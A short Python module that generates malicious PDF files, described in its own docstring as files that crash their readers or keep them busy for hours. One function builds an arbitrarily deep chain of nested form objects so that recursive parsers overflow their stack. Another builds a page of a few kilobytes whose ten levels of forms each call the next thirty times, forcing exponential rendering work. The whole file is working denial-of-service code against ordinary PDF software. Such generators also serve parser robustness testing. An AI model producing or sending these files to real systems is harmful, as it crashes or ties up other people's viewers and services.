"""Files that crash their readers or keep them busy for hours."""

import zlib


def _pdf(objects: list[bytes]) -> bytes:
    file, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(file))
        file += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    tail = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(file))
    return bytes(file) + head + table + tail


def chain_of_forms(length: int) -> bytes:
    """A PDF whose forms hold one another: recursive programs overrun their stack."""
    head = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</X 4 0 R>>>>>>",
    ]
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X %d 0 R>>>>/Length 0>>stream\n\nendstream"
    )
    return _pdf([*head, *(form % (number + 5) for number in range(length))])


def slow_pdf(levels: int = 10) -> bytes:
    """A PDF of some kilobytes whose one page is drawn through so many levels of forms, each used thirty times."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    again = zlib.compress(b"/X Do " * 30)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page]
    stream = b"/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(again), again)
    objects.append(b"<<" + stream)
    for level in range(levels):
        resources = b"/Resources<</XObject<</X %d 0 R>>>>" % (level + 6)
        objects.append(b"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]" + resources + stream)
    last = b"0 0 m 595 842 l S"
    objects.append(
        b"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Length %d>>stream\n%s\nendstream" % (len(last), last)
    )
    return _pdf(objects)
